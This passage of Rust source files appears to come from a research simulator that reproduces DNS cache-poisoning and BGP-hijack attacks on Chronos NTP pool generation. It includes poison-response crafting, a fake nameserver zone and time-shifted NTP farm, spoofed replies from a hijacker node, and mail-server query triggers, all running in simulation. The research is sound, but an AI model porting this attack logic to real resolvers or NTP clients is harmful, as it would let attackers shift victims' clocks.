            .find(|(fast, _, _)| *fast == metrics)
            .expect("the metrics-overhead guard is registered");
        assert!(floor < 1.0, "an overhead guard floors below parity");
        assert!(GUARDED.contains(&metrics), "also mean-gated vs baseline");
        let check_of = |entries: &[BenchEntry]| {
            ratio_checks(entries)
                .into_iter()
                .find(|c| c.fast == metrics)
                .expect("guard evaluates")
        };
        // 1% overhead passes the floor...
        let fine = parse_artifact(&artifact(&[(metrics, 1.01), (plain, 1.00)]));
        assert!(!check_of(&fine).failed(), "1% overhead is within budget");
        // ...5% overhead violates it.
        let heavy = parse_artifact(&artifact(&[(metrics, 1.05), (plain, 1.00)]));
        assert!(check_of(&heavy).failed(), "5% overhead must fail the gate");
    }

    /// Ratio guards compare each side's fastest sample: a noisy mean must
    /// not fail a pair whose minima sit at parity, and artifacts without
    /// recorded minima fall back to the mean.
    #[test]
    fn ratio_guards_prefer_the_minimum_sample() {
        let (fast, slow, _) = RATIO_GUARDS[0];
        // Means claim a 4x speedup, minima only 2.5x — the minima win.
        let text = format!(
            "{{\"results\": [\
             {{\"name\": \"{fast}\", \"mean_secs_per_iter\": 0.025, \"min_secs_per_iter\": 0.020}},\
             {{\"name\": \"{slow}\", \"mean_secs_per_iter\": 0.100, \"min_secs_per_iter\": 0.050}}]}}"
        );
        let entries = parse_artifact(&text);
        assert_eq!(entries[0].min_secs_per_iter, Some(0.020), "min parsed");
        let checks = ratio_checks(&entries);
        assert!((checks[0].ratio - 2.5).abs() < 1e-9, "min-based ratio");
        // No minima recorded: the mean-based ratio is used instead.
        let text = format!(
            "{{\"results\": [\
             {{\"name\": \"{fast}\", \"mean_secs_per_iter\": 0.025}},\
             {{\"name\": \"{slow}\", \"mean_secs_per_iter\": 0.100}}]}}"
        );
        let checks = ratio_checks(&parse_artifact(&text));
        assert!((checks[0].ratio - 4.0).abs() < 1e-9, "mean fallback");
    }

    #[test]
    fn directory_diff_end_to_end() {
        let root = std::env::temp_dir().join(format!("benchdiff-test-{}", std::process::id()));
        let base = root.join("perf").join("2026-07-27");
        let fresh = root.join("bench-results");
        std::fs::create_dir_all(&base).unwrap();
        std::fs::create_dir_all(&fresh).unwrap();
        let guarded = GUARDED[0];
        std::fs::write(base.join("BENCH_a.json"), artifact(&[(guarded, 0.100)])).unwrap();
        std::fs::write(fresh.join("BENCH_a.json"), artifact(&[(guarded, 0.200)])).unwrap();
        std::fs::write(
            fresh.join("BENCH_new.json"),
            artifact(&[("brand/new", 1.0)]),
        )
        .unwrap();

        assert_eq!(
            newest_snapshot(&root.join("perf")).unwrap(),
            base,
            "date-named snapshot found"
        );
        let suffixed = root.join("perf").join("2026-07-27-pr2");
        std::fs::create_dir_all(&suffixed).unwrap();
        assert_eq!(
            newest_snapshot(&root.join("perf")).unwrap(),
            suffixed,
            "same-day suffixed snapshot wins"
        );
        let double_digit = root.join("perf").join("2026-07-27-pr10");
        std::fs::create_dir_all(&double_digit).unwrap();
        assert_eq!(
            newest_snapshot(&root.join("perf")).unwrap(),
            double_digit,
            "-pr10 must beat -pr2 despite lexicographic order"
        );
        let newer_day = root.join("perf").join("2026-07-28");
        std::fs::create_dir_all(&newer_day).unwrap();
        assert_eq!(
            newest_snapshot(&root.join("perf")).unwrap(),
            newer_day,
            "a later date beats any same-day suffix"
        );
        std::fs::remove_dir_all(&double_digit).unwrap();
        std::fs::remove_dir_all(&newer_day).unwrap();
        let report = diff_dirs(&base, &fresh).unwrap();
        assert_eq!(report.comparisons.len(), 1);
        assert_eq!(report.unmatched_fresh, vec!["BENCH_new.json".to_string()]);
        let regs = report.regressions(DEFAULT_THRESHOLD_PCT);
        assert_eq!(regs.len(), 1, "a 2x-slower guarded target fails the job");
        // GUARDED names absent from the fresh run, plus the rate guard's
        // reference side (absent here), are all called out.
        let mut expected_missing = GUARDED[1..].to_vec();
        for &(fast, slow, _) in RATE_RATIO_GUARDS {
            for side in [fast, slow] {
                if !expected_missing.contains(&side) && !GUARDED[..1].contains(&side) {
                    expected_missing.push(side);
                }
            }
        }
        assert_eq!(
            report.missing_guards, expected_missing,
            "guards absent from the fresh run are called out"
        );

        let empty = root.join("empty");
        std::fs::create_dir_all(&empty).unwrap();
        assert!(
            diff_dirs(&base, &empty).is_err(),
            "nothing to compare fails"
        );
        std::fs::remove_dir_all(&root).unwrap();
    }
}
