//! Shared helpers for the benchmark harness.
//!
//! Every bench regenerates one of the paper's tables or figures (printing
//! it to stdout) and then times the underlying experiment runner. The
//! printed artifacts are the reproduction deliverable; the timings document
//! the cost of regenerating them. [`benchdiff`] turns the JSON artifacts
//! into a CI perf-regression gate (see the `bench-diff` binary).
//!
//! *(Workspace map: see `ARCHITECTURE.md` at the repo root — crate-by-crate
//! architecture, the data-flow diagram, and the determinism contract.)*

pub mod benchdiff;

/// Prints a banner separating bench output sections.
pub fn banner(title: &str) {
    println!("\n{}", "=".repeat(74));
    println!("{title}");
    println!("{}", "=".repeat(74));
}
