//! Poison-payload crafting (paper §IV).
//!
//! The attacker's DNS response packs the maximum number of A records that
//! still fits in a single non-fragmented datagram (89 at Ethernet MTU with
//! EDNS) and carries a TTL just above 24 hours, so every later hourly query
//! during Chronos pool generation is served from cache and contributes no
//! new benign servers.

use dnslab::capacity::max_a_records;
use dnslab::name::Name;
use dnslab::wire::{Message, Record};
use std::net::Ipv4Addr;

/// First address of the attacker's NTP-farm range (`198.18.0.0/15`, the
/// benchmarking range — comfortably disjoint from the benign `10.32.0.0/16`
/// universe).
pub const ATTACKER_FARM_BASE: Ipv4Addr = Ipv4Addr::new(198, 18, 0, 1);

/// TTL used on poisoned records: one second above 24 hours (paper §IV:
/// "set the DNS TTL to a value bigger than 24 hours").
pub const POISON_TTL: u32 = 86_401;

/// `count` consecutive farm addresses starting at [`ATTACKER_FARM_BASE`].
pub fn farm_addrs(count: usize) -> Vec<Ipv4Addr> {
    let base = u32::from(ATTACKER_FARM_BASE);
    (0..count as u32)
        .map(|i| Ipv4Addr::from(base + i))
        .collect()
}

/// `true` if `addr` belongs to the attacker farm range.
pub fn is_farm_addr(addr: Ipv4Addr) -> bool {
    let o = addr.octets();
    o[0] == 198 && (o[1] & 0xfe) == 18
}

/// The maximum poison records deliverable unfragmented at `mtu` (EDNS
/// response, as resolvers request).
pub fn max_poison_records(qname: &Name, mtu: u16) -> usize {
    max_a_records(qname, mtu, true)
}

/// Builds the forged response to `query`: `count` farm addresses with
/// [`POISON_TTL`].
pub fn poison_response(query: &Message, count: usize, ttl: u32) -> Message {
    let qname = query
        .question
        .first()
        .map(|q| q.name.clone())
        .unwrap_or_else(Name::root);
    let mut msg = Message::response_to(query);
    msg.flags.authoritative = true;
    for addr in farm_addrs(count) {
        msg.answers.push(Record::a(qname.clone(), addr, ttl));
    }
    if query.edns_udp_size().is_some() {
        msg = msg.with_edns(4096);
    }
    msg
}

#[cfg(test)]
mod tests {
    use super::*;
    use dnslab::capacity::dns_budget;
    use dnslab::wire::Question;

    fn pool_query() -> Message {
        Message::query(7, Question::a("pool.ntp.org".parse().unwrap())).with_edns(4096)
    }

    #[test]
    fn paper_number_89_at_ethernet_mtu() {
        let pool: Name = "pool.ntp.org".parse().unwrap();
        assert_eq!(max_poison_records(&pool, 1500), 89);
    }

    #[test]
    fn poison_response_fits_unfragmented() {
        let q = pool_query();
        let msg = poison_response(&q, 89, POISON_TTL);
        assert_eq!(msg.answer_addrs().len(), 89);
        assert!(msg.encoded_len() <= dns_budget(1500));
        assert!(msg.answers.iter().all(|r| r.ttl == POISON_TTL));
        assert_eq!(msg.id, q.id, "txid echoed");
    }

    #[test]
    #[allow(clippy::assertions_on_constants)] // the relation is the paper's claim
    fn poison_ttl_exceeds_generation_window() {
        assert!(POISON_TTL > 24 * 3600);
    }

    #[test]
    fn farm_addrs_distinct_and_in_range() {
        let addrs = farm_addrs(89);
        assert_eq!(addrs.len(), 89);
        let mut dedup = addrs.clone();
        dedup.sort();
        dedup.dedup();
        assert_eq!(dedup.len(), 89);
        assert!(addrs.iter().all(|&a| is_farm_addr(a)));
        assert!(!is_farm_addr(Ipv4Addr::new(10, 32, 0, 1)));
        assert!(!is_farm_addr(Ipv4Addr::new(203, 0, 113, 1)));
    }

    #[test]
    fn response_without_edns_when_query_lacks_it() {
        let q = Message::query(9, Question::a("pool.ntp.org".parse().unwrap()));
        let msg = poison_response(&q, 4, POISON_TTL);
        assert!(msg.edns_udp_size().is_none());
    }
}
