//! The attacker's server-side infrastructure: a malicious NTP farm and a
//! fake authoritative nameserver.
//!
//! Once the resolver's cache holds attacker glue (fragmentation path) or the
//! attacker owns the route (BGP path), these two components finish the job:
//! the fake nameserver answers `pool.ntp.org` with all 89 farm addresses at
//! TTL > 24 h, and the farm serves time shifted by the attacker's Δ.

use crate::payload::{farm_addrs, POISON_TTL};
use dnslab::name::Name;
use dnslab::zone::{Rotation, Zone};
use ntplab::clock::LocalClock;
use ntplab::server::NtpServer;
use std::net::Ipv4Addr;

/// Builds one [`NtpServer`] node hosting every farm address, all answering
/// from one clock shifted by `shift_ns`.
///
/// A consistent shift matters: Chronos' ω-agreement check compares the
/// surviving samples against each other, so the farm must lie in unison.
pub fn build_ntp_farm(count: usize, shift_ns: i64) -> NtpServer {
    NtpServer::with_addrs(farm_addrs(count), LocalClock::new(shift_ns, 0.0))
}

/// Builds the fake `pool.ntp.org` zone served once the attacker controls
/// resolution: every response carries all `count` farm addresses with
/// [`POISON_TTL`].
pub fn fake_pool_zone(pool_name: Name, count: usize) -> Zone {
    fake_pool_zone_with_ttl(pool_name, count, POISON_TTL)
}

/// Like [`fake_pool_zone`] with an explicit TTL (mitigation experiments use
/// sub-threshold TTLs).
pub fn fake_pool_zone_with_ttl(pool_name: Name, count: usize, ttl: u32) -> Zone {
    Zone::new(pool_name)
        .with_rotation(Rotation::new(farm_addrs(count), count, ttl))
        .with_authority_sections(false)
}

/// Addresses the fake nameserver should be reachable at (the glue targets
/// planted by the fragmentation attack).
pub fn fake_ns_addr() -> Ipv4Addr {
    Ipv4Addr::new(198, 19, 255, 53)
}

#[cfg(test)]
mod tests {
    use super::*;
    use dnslab::wire::{Question, RecordType};

    #[test]
    fn farm_lies_in_unison() {
        let farm = build_ntp_farm(89, 500_000_000);
        assert_eq!(
            farm.clock()
                .offset_from_true(netsim::time::SimTime::from_secs(10)),
            500_000_000
        );
    }

    #[test]
    fn fake_zone_serves_all_records_every_query() {
        let pool: Name = "pool.ntp.org".parse().unwrap();
        let mut zone = fake_pool_zone(pool.clone(), 89);
        let q = Question {
            name: pool.clone(),
            qtype: RecordType::A,
        };
        let a1 = zone.answer(&q);
        let a2 = zone.answer(&q);
        assert_eq!(a1.answers.len(), 89);
        assert_eq!(a2.answers.len(), 89);
        assert!(a1.answers.iter().all(|r| r.ttl == POISON_TTL));
        assert!(a1.authorities.is_empty(), "lean responses, no NS section");
        // Same 89 addresses both times (rotation over the full set).
        let mut s1: Vec<_> = a1.answers.iter().filter_map(|r| r.as_a()).collect();
        let mut s2: Vec<_> = a2.answers.iter().filter_map(|r| r.as_a()).collect();
        s1.sort();
        s2.sort();
        assert_eq!(s1, s2);
    }

    #[test]
    fn custom_ttl_variant() {
        let pool: Name = "pool.ntp.org".parse().unwrap();
        let mut zone = fake_pool_zone_with_ttl(pool.clone(), 10, 300);
        let ans = zone.answer(&Question {
            name: pool,
            qtype: RecordType::A,
        });
        assert!(ans.answers.iter().all(|r| r.ttl == 300));
    }
}
