//! BGP prefix-hijack MitM (paper §II, refs. 7 and 8).
//!
//! A BGP hijack puts the attacker on-path for the victim nameserver's
//! prefix: every resolver query routed there lands on the attacker, who
//! answers as the nameserver — no guessing, no fragments. The simulator
//! models the routing part with [`netsim::world::World::add_hijack`]; this
//! node is the attacker's impersonation logic.
//!
//! The paper's §V residual threat — "the attacker manages to hijack the
//! victim's DNS for a period of 24 hours" — is this attacker with a 24-hour
//! hijack window, which defeats even the mitigated Chronos pool generation.

use crate::payload::poison_response;
use dnslab::name::Name;
use dnslab::server::DNS_PORT;
use dnslab::wire::Message;
use netsim::ip::Ipv4Packet;
use netsim::node::{Context, Node};
use netsim::stack::IpStack;
use netsim::udp::UdpDatagram;
use serde::{Deserialize, Serialize};
use std::any::Any;
use std::net::Ipv4Addr;

/// Configuration of a [`BgpHijackAttacker`].
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct BgpHijackConfig {
    /// The name whose queries get poisoned answers.
    pub qname: Name,
    /// Poison records per response.
    pub records: usize,
    /// Poison TTL.
    pub ttl: u32,
    /// Rotate through the farm across responses, mimicking the benign
    /// pool's behaviour. This is how a patient 24-hour hijacker defeats the
    /// §V mitigations: 4 ordinary-looking records per response, normal TTL,
    /// yet every one of them malicious.
    pub rotate: bool,
    /// Size of the farm rotated over (only used with `rotate`).
    pub farm_size: usize,
}

/// Counters describing attacker activity.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct BgpHijackStats {
    /// Hijacked packets received.
    pub packets_seen: u64,
    /// DNS queries for the target name answered with poison.
    pub poisoned_responses: u64,
    /// Queries for other names (black-holed).
    pub other_queries: u64,
}

/// The MitM node receiving hijack-routed traffic and impersonating the
/// nameserver.
#[derive(Debug)]
pub struct BgpHijackAttacker {
    stack: IpStack,
    config: BgpHijackConfig,
    cursor: usize,
    stats: BgpHijackStats,
}

impl BgpHijackAttacker {
    /// Creates the attacker at `addr` (its own, non-hijacked address).
    pub fn new(addr: Ipv4Addr, config: BgpHijackConfig) -> Self {
        BgpHijackAttacker {
            stack: IpStack::new(addr),
            config,
            cursor: 0,
            stats: BgpHijackStats::default(),
        }
    }

    /// Activity counters.
    pub fn stats(&self) -> BgpHijackStats {
        self.stats
    }

    fn build_response(&mut self, query: &Message) -> Message {
        if !self.config.rotate {
            return poison_response(query, self.config.records, self.config.ttl);
        }
        // Low-profile mode: rotate `records` farm addresses per response,
        // exactly like the benign pool would.
        let farm = crate::payload::farm_addrs(self.config.farm_size.max(self.config.records));
        let qname = query
            .question
            .first()
            .map(|q| q.name.clone())
            .unwrap_or_else(Name::root);
        let mut response = Message::response_to(query);
        response.flags.authoritative = true;
        for _ in 0..self.config.records {
            let addr = farm[self.cursor % farm.len()];
            self.cursor += 1;
            response.answers.push(dnslab::wire::Record::a(
                qname.clone(),
                addr,
                self.config.ttl,
            ));
        }
        if query.edns_udp_size().is_some() {
            response = response.with_edns(4096);
        }
        response
    }
}

impl Node for BgpHijackAttacker {
    fn reset(&mut self) {
        self.stack.reset();
        self.cursor = 0;
        self.stats = BgpHijackStats::default();
    }

    fn on_packet(&mut self, ctx: &mut Context<'_>, pkt: Ipv4Packet) {
        self.stats.packets_seen += 1;
        // Hijacked traffic is addressed to the *nameserver*, not to us, so
        // the datagram is decoded manually rather than via our stack.
        let Ok(datagram) = UdpDatagram::decode(pkt.src, pkt.dst, &pkt.payload, true) else {
            return;
        };
        if datagram.dst_port != DNS_PORT {
            return;
        }
        let Ok(query) = Message::decode(&datagram.payload) else {
            return;
        };
        if query.flags.response {
            return;
        }
        let matches = query
            .question
            .first()
            .map(|q| q.name == self.config.qname)
            .unwrap_or(false);
        if !matches {
            self.stats.other_queries += 1;
            return;
        }
        let mut response = self.build_response(&query);
        response.flags.recursion_available = false;
        self.stats.poisoned_responses += 1;
        // Answer *as* the nameserver: spoof its address.
        self.stack.send_udp_spoofed(
            ctx,
            pkt.dst,
            DNS_PORT,
            pkt.src,
            datagram.src_port,
            response.encode(),
            None,
        );
    }

    fn as_any(&self) -> &dyn Any {
        self
    }

    fn as_any_mut(&mut self) -> &mut dyn Any {
        self
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::payload::is_farm_addr;
    use dnslab::resolver::{RecursiveResolver, Upstream};
    use dnslab::server::AuthServer;
    use dnslab::wire::Question;
    use dnslab::zone::pool_ntp_zone;
    use netsim::ip::Ipv4Net;
    use netsim::prelude::*;
    use netsim::time::{SimDuration, SimTime};

    /// Client that asks the resolver for pool.ntp.org once.
    struct OneShot {
        stack: IpStack,
        stub: dnslab::client::StubResolver,
        answers: Vec<Ipv4Addr>,
        ttl: u32,
    }

    impl Node for OneShot {
        fn on_start(&mut self, ctx: &mut Context<'_>) {
            self.stub.query(
                ctx,
                &mut self.stack,
                Question::a("pool.ntp.org".parse().unwrap()),
                0,
            );
        }
        fn on_packet(&mut self, ctx: &mut Context<'_>, pkt: Ipv4Packet) {
            if let Some(StackEvent::Udp { src, datagram, .. }) = self.stack.handle(ctx, pkt) {
                if let Some(resp) = self.stub.handle(src, &datagram) {
                    self.answers = resp.message.answer_addrs();
                    self.ttl = resp.message.answers.first().map(|r| r.ttl).unwrap_or(0);
                }
            }
        }
        fn as_any(&self) -> &dyn Any {
            self
        }
        fn as_any_mut(&mut self) -> &mut dyn Any {
            self
        }
    }

    #[test]
    fn hijacked_resolution_yields_89_farm_records() {
        let ns_addr = Ipv4Addr::new(203, 0, 113, 1);
        let resolver_addr = Ipv4Addr::new(198, 51, 100, 53);
        let client_addr = Ipv4Addr::new(198, 51, 100, 10);
        let attacker_addr = Ipv4Addr::new(198, 19, 0, 66);
        let mut world = World::new(11);
        world.add_node(
            "auth",
            Box::new(AuthServer::new(ns_addr, vec![pool_ntp_zone(96, 2)])),
            &[ns_addr],
        );
        let mut res = RecursiveResolver::new(
            resolver_addr,
            vec![Upstream {
                zone: "pool.ntp.org".parse().unwrap(),
                ns_names: vec!["ns1.pool.ntp.org".parse().unwrap()],
                bootstrap: vec![ns_addr],
            }],
        );
        res.allow_client(client_addr);
        let resolver = world.add_node("resolver", Box::new(res), &[resolver_addr]);
        let attacker = world.add_node(
            "bgp-attacker",
            Box::new(BgpHijackAttacker::new(
                attacker_addr,
                BgpHijackConfig {
                    qname: "pool.ntp.org".parse().unwrap(),
                    records: 89,
                    ttl: 86_401,
                    rotate: false,
                    farm_size: 89,
                },
            )),
            &[attacker_addr],
        );
        let client = world.add_node(
            "client",
            Box::new(OneShot {
                stack: IpStack::new(client_addr),
                stub: dnslab::client::StubResolver::new(resolver_addr),
                answers: Vec::new(),
                ttl: 0,
            }),
            &[client_addr],
        );
        // Hijack the nameserver's /24 for one hour.
        world.add_hijack(
            Ipv4Net::new(ns_addr, 24),
            attacker,
            SimTime::ZERO,
            SimTime::from_secs(3600),
        );
        world.run_for(SimDuration::from_secs(5));
        let c = world.node::<OneShot>(client);
        assert_eq!(c.answers.len(), 89);
        assert!(c.answers.iter().all(|&a| is_farm_addr(a)));
        assert_eq!(c.ttl, 86_401);
        assert_eq!(
            world
                .node::<BgpHijackAttacker>(attacker)
                .stats()
                .poisoned_responses,
            1
        );
        // And the resolver cached the poison.
        let cached = world
            .node_mut::<RecursiveResolver>(resolver)
            .cache_mut()
            .get(
                SimTime::from_secs(5),
                &dnslab::cache::CacheKey::a("pool.ntp.org".parse().unwrap()),
            )
            .expect("poison cached");
        assert_eq!(cached.len(), 89);
    }

    #[test]
    fn after_hijack_window_truth_returns() {
        let ns_addr = Ipv4Addr::new(203, 0, 113, 1);
        let resolver_addr = Ipv4Addr::new(198, 51, 100, 53);
        let client_addr = Ipv4Addr::new(198, 51, 100, 10);
        let attacker_addr = Ipv4Addr::new(198, 19, 0, 66);
        let mut world = World::new(12);
        world.add_node(
            "auth",
            Box::new(AuthServer::new(ns_addr, vec![pool_ntp_zone(96, 2)])),
            &[ns_addr],
        );
        let mut res = RecursiveResolver::new(
            resolver_addr,
            vec![Upstream {
                zone: "pool.ntp.org".parse().unwrap(),
                ns_names: vec!["ns1.pool.ntp.org".parse().unwrap()],
                bootstrap: vec![ns_addr],
            }],
        );
        res.allow_client(client_addr);
        world.add_node("resolver", Box::new(res), &[resolver_addr]);
        let attacker = world.add_node(
            "bgp-attacker",
            Box::new(BgpHijackAttacker::new(
                attacker_addr,
                BgpHijackConfig {
                    qname: "pool.ntp.org".parse().unwrap(),
                    records: 89,
                    ttl: 86_401,
                    rotate: false,
                    farm_size: 89,
                },
            )),
            &[attacker_addr],
        );
        // Hijack already expired before the client asks.
        world.add_hijack(
            Ipv4Net::new(ns_addr, 24),
            attacker,
            SimTime::ZERO,
            SimTime::from_secs(1),
        );
        world.run_until(SimTime::from_secs(10));
        let client = world.add_node(
            "client",
            Box::new(OneShot {
                stack: IpStack::new(client_addr),
                stub: dnslab::client::StubResolver::new(resolver_addr),
                answers: Vec::new(),
                ttl: 0,
            }),
            &[client_addr],
        );
        world
            .node_mut::<RecursiveResolver>(NodeId::new(1))
            .allow_client(client_addr);
        world.run_for(SimDuration::from_secs(5));
        let c = world.node::<OneShot>(client);
        assert_eq!(c.answers.len(), 4, "benign rotation answer");
        assert!(c.answers.iter().all(|&a| !is_farm_addr(a)));
    }
}
