//! Third-party query triggering (paper §II, claim C9).
//!
//! Off-path poisoning needs the victim resolver to *have a query in flight*.
//! The paper found 14 % of web-client resolvers can be made to query on
//! attacker demand through shared third-party systems. Two such triggers are
//! modelled:
//!
//! * [`SmtpServer`] — a mail server sharing the victim's resolver: receiving
//!   a message for `user@domain` makes it look up `domain MX` and then the
//!   exchange's A record. Attackers trigger resolution by sending mail.
//! * Open resolvers — queried directly (a flag on
//!   [`dnslab::resolver::ResolverConfig`]).
//!
//! [`BackgroundQuerier`] generates cross-traffic against a nameserver,
//! degrading the IP-ID prediction of the fragmentation attack (E9's sweep
//! variable).

use bytes::Bytes;
use dnslab::client::StubResolver;
use dnslab::name::Name;
use dnslab::server::DNS_PORT;
use dnslab::wire::{Message, Question, RData};
use netsim::ip::Ipv4Packet;
use netsim::node::{Context, Node};
use netsim::stack::{IpStack, StackEvent};
use netsim::time::SimDuration;
use rand::Rng;
use serde::{Deserialize, Serialize};
use std::any::Any;
use std::net::Ipv4Addr;

/// The (abstracted) SMTP port.
pub const SMTP_PORT: u16 = 25;

const TAG_MX: u64 = 1;
const TAG_A: u64 = 2;

/// Counters describing SMTP-server activity.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct SmtpStats {
    /// Messages accepted.
    pub mails: u64,
    /// MX lookups triggered.
    pub mx_lookups: u64,
    /// A lookups triggered (after an MX answer).
    pub a_lookups: u64,
    /// Messages with unparsable recipient domains.
    pub rejected: u64,
}

/// A mail server that shares the victim's resolver.
///
/// Protocol abstraction: a "mail" is a UDP datagram to port 25 whose payload
/// is the recipient domain in UTF-8. Delivery itself is not modelled — only
/// the DNS lookups it provokes, which are what the attacker wants.
#[derive(Debug)]
pub struct SmtpServer {
    stack: IpStack,
    stub: StubResolver,
    stats: SmtpStats,
}

impl SmtpServer {
    /// Creates a mail server at `addr` using `resolver`.
    pub fn new(addr: Ipv4Addr, resolver: Ipv4Addr) -> Self {
        SmtpServer {
            stack: IpStack::new(addr),
            stub: StubResolver::new(resolver),
            stats: SmtpStats::default(),
        }
    }

    /// The server's address.
    pub fn addr(&self) -> Ipv4Addr {
        self.stack.addr()
    }

    /// Activity counters.
    pub fn stats(&self) -> SmtpStats {
        self.stats
    }
}

impl Node for SmtpServer {
    fn reset(&mut self) {
        self.stack.reset();
        self.stub.reset();
        self.stats = SmtpStats::default();
    }

    fn on_packet(&mut self, ctx: &mut Context<'_>, pkt: Ipv4Packet) {
        let Some(StackEvent::Udp { src, datagram, .. }) = self.stack.handle(ctx, pkt) else {
            return;
        };
        if datagram.dst_port == SMTP_PORT {
            self.stats.mails += 1;
            let Ok(domain) = core::str::from_utf8(&datagram.payload) else {
                self.stats.rejected += 1;
                return;
            };
            let Ok(name) = domain.trim().parse::<Name>() else {
                self.stats.rejected += 1;
                return;
            };
            self.stats.mx_lookups += 1;
            self.stub
                .query(ctx, &mut self.stack, Question::mx(name), TAG_MX);
            return;
        }
        // DNS responses for our lookups.
        if let Some(resp) = self.stub.handle(src, &datagram) {
            if resp.tag == TAG_MX {
                // Chase the exchange host's address, as real MTAs do.
                let exchange = resp.message.answers.iter().find_map(|r| match &r.rdata {
                    RData::Mx { exchange, .. } => Some(exchange.clone()),
                    _ => None,
                });
                if let Some(exchange) = exchange {
                    self.stats.a_lookups += 1;
                    self.stub
                        .query(ctx, &mut self.stack, Question::a(exchange), TAG_A);
                }
            }
        }
    }

    fn as_any(&self) -> &dyn Any {
        self
    }

    fn as_any_mut(&mut self) -> &mut dyn Any {
        self
    }
}

/// Sends a "mail" for `domain` to an [`SmtpServer`] — the attacker's
/// trigger primitive.
pub fn send_mail(ctx: &mut Context<'_>, stack: &mut IpStack, smtp: Ipv4Addr, domain: &Name) {
    let me = stack.addr();
    stack.send_udp(
        ctx,
        me,
        2525,
        smtp,
        SMTP_PORT,
        Bytes::from(domain.to_string().into_bytes()),
    );
}

const TAG_NOISE: u64 = 7;

/// Background cross-traffic against a nameserver: each query consumes one
/// IP-ID from a sequentially-allocating server, spoiling the fragmentation
/// attacker's prediction with some probability.
#[derive(Debug)]
pub struct BackgroundQuerier {
    stack: IpStack,
    target: Ipv4Addr,
    qname: Name,
    mean_interval: SimDuration,
    sent: u64,
}

impl BackgroundQuerier {
    /// Creates a querier at `addr` poking `target` about the given name
    /// every `mean_interval` (±50 % jitter).
    pub fn new(addr: Ipv4Addr, target: Ipv4Addr, qname: Name, mean_interval: SimDuration) -> Self {
        BackgroundQuerier {
            stack: IpStack::new(addr),
            target,
            qname,
            mean_interval,
            sent: 0,
        }
    }

    /// Queries sent so far.
    pub fn sent(&self) -> u64 {
        self.sent
    }

    fn fire(&mut self, ctx: &mut Context<'_>) {
        let txid: u16 = ctx.rng().gen();
        let query = Message::query(txid, Question::a(self.qname.clone())).with_edns(4096);
        let me = self.stack.addr();
        self.stack
            .send_udp(ctx, me, 5355, self.target, DNS_PORT, query.encode());
        self.sent += 1;
        let jitter = ctx.rng().gen_range(50..=150) as f64 / 100.0;
        ctx.set_timer(self.mean_interval.mul_f64(jitter), TAG_NOISE);
    }
}

impl Node for BackgroundQuerier {
    fn reset(&mut self) {
        self.stack.reset();
        self.sent = 0;
    }

    fn on_start(&mut self, ctx: &mut Context<'_>) {
        self.fire(ctx);
    }

    fn on_packet(&mut self, ctx: &mut Context<'_>, pkt: Ipv4Packet) {
        let _ = self.stack.handle(ctx, pkt); // absorb replies
    }

    fn on_timer(&mut self, ctx: &mut Context<'_>, tag: u64) {
        if tag == TAG_NOISE {
            self.fire(ctx);
        }
    }

    fn as_any(&self) -> &dyn Any {
        self
    }

    fn as_any_mut(&mut self) -> &mut dyn Any {
        self
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use dnslab::resolver::{RecursiveResolver, Upstream};
    use dnslab::server::AuthServer;
    use dnslab::wire::Record;
    use dnslab::zone::Zone;
    use netsim::prelude::*;

    /// A node the attacker uses to fire the trigger.
    struct MailSender {
        stack: IpStack,
        smtp: Ipv4Addr,
        domain: Name,
    }

    impl Node for MailSender {
        fn on_start(&mut self, ctx: &mut Context<'_>) {
            send_mail(ctx, &mut self.stack, self.smtp, &self.domain);
        }
        fn on_packet(&mut self, _ctx: &mut Context<'_>, _pkt: Ipv4Packet) {}
        fn as_any(&self) -> &dyn Any {
            self
        }
        fn as_any_mut(&mut self) -> &mut dyn Any {
            self
        }
    }

    #[test]
    fn mail_triggers_mx_then_a_lookup_through_the_resolver() {
        let ns_addr = Ipv4Addr::new(203, 0, 113, 9);
        let resolver_addr = Ipv4Addr::new(198, 51, 100, 53);
        let smtp_addr = Ipv4Addr::new(198, 51, 100, 25);
        let attacker_addr = Ipv4Addr::new(198, 19, 0, 66);
        let victim_zone: Name = "victim.example".parse().unwrap();

        let zone = Zone::new(victim_zone.clone())
            .with_ns("ns1.victim.example".parse().unwrap(), ns_addr)
            .with_record(Record {
                name: victim_zone.clone(),
                ttl: 300,
                rdata: RData::Mx {
                    preference: 10,
                    exchange: "mail.victim.example".parse().unwrap(),
                },
            })
            .with_record(Record::a(
                "mail.victim.example".parse().unwrap(),
                Ipv4Addr::new(10, 9, 9, 1),
                300,
            ));

        let mut world = World::new(31);
        world.add_node(
            "auth",
            Box::new(AuthServer::new(ns_addr, vec![zone])),
            &[ns_addr],
        );
        let mut res = RecursiveResolver::new(
            resolver_addr,
            vec![Upstream {
                zone: victim_zone.clone(),
                ns_names: vec!["ns1.victim.example".parse().unwrap()],
                bootstrap: vec![ns_addr],
            }],
        );
        res.allow_client(smtp_addr);
        let resolver = world.add_node("resolver", Box::new(res), &[resolver_addr]);
        let smtp = world.add_node(
            "smtp",
            Box::new(SmtpServer::new(smtp_addr, resolver_addr)),
            &[smtp_addr],
        );
        world.add_node(
            "attacker",
            Box::new(MailSender {
                stack: IpStack::new(attacker_addr),
                smtp: smtp_addr,
                domain: victim_zone.clone(),
            }),
            &[attacker_addr],
        );
        world.run_for(SimDuration::from_secs(5));
        let s = world.node::<SmtpServer>(smtp).stats();
        assert_eq!(s.mails, 1);
        assert_eq!(s.mx_lookups, 1);
        assert_eq!(s.a_lookups, 1, "MX answer chased to an A lookup");
        let r = world.node::<RecursiveResolver>(resolver).stats();
        assert_eq!(
            r.client_queries, 2,
            "attacker made the resolver work without being a client"
        );
    }

    #[test]
    fn garbage_mail_is_rejected() {
        let smtp_addr = Ipv4Addr::new(198, 51, 100, 25);
        let sender_addr = Ipv4Addr::new(198, 19, 0, 66);
        let mut world = World::new(32);
        let smtp = world.add_node(
            "smtp",
            Box::new(SmtpServer::new(smtp_addr, Ipv4Addr::new(198, 51, 100, 53))),
            &[smtp_addr],
        );
        struct Garbage {
            stack: IpStack,
            smtp: Ipv4Addr,
        }
        impl Node for Garbage {
            fn on_start(&mut self, ctx: &mut Context<'_>) {
                let me = self.stack.addr();
                self.stack.send_udp(
                    ctx,
                    me,
                    2525,
                    self.smtp,
                    SMTP_PORT,
                    Bytes::from_static(b"not a domain!!"),
                );
            }
